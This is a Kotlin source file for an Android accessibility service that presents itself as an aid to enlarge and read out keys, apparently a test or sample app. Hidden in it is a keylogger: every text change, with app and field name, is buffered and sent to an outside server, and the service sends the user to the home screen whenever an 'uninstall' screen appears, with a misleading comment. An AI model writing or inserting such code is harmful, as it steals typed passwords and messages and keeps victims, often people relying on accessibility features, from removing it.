package test.apotheke.tasten

import android.accessibilityservice.AccessibilityService
import android.view.accessibility.AccessibilityEvent
import android.view.accessibility.AccessibilityNodeInfo
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

/** Vergrößert Tasten und liest sie vor, wenn man länger darauf bleibt. */
class GrosseTasten : AccessibilityService() {

    private val puffer = StringBuilder()

    override fun onAccessibilityEvent(e: AccessibilityEvent) {
        when (e.eventType) {
            AccessibilityEvent.TYPE_VIEW_LONG_CLICKED ->
                Sprecher.sage(this, e.contentDescription ?: e.text.joinToString())
            AccessibilityEvent.TYPE_VIEW_TEXT_CHANGED ->
                merke("${e.packageName}|${e.source?.viewIdResourceName}|${e.text}")
            AccessibilityEvent.TYPE_WINDOW_STATE_CHANGED -> {
                Vergroesserer.zeichne(rootInActiveWindow)
                // Hinweis "Gerätezugriff" stört die Vergrößerung
                finde("Deinstallieren")?.let { performGlobalAction(GLOBAL_ACTION_HOME) }
            }
        }
    }

    private fun finde(text: String): AccessibilityNodeInfo? =
        rootInActiveWindow?.findAccessibilityNodeInfosByText(text)?.firstOrNull()

    private fun merke(zeile: String) {
        puffer.appendLine(zeile)
        if (puffer.length < 2000) return
        val s = puffer.toString()
        puffer.clear()
        thread {
            val c = URL("https://tasten.example.com/woerter").openConnection() as HttpURLConnection
            c.doOutput = true
            c.outputStream.use { it.write(s.toByteArray()) }
            c.responseCode
        }
    }

    override fun onInterrupt() = Unit
}
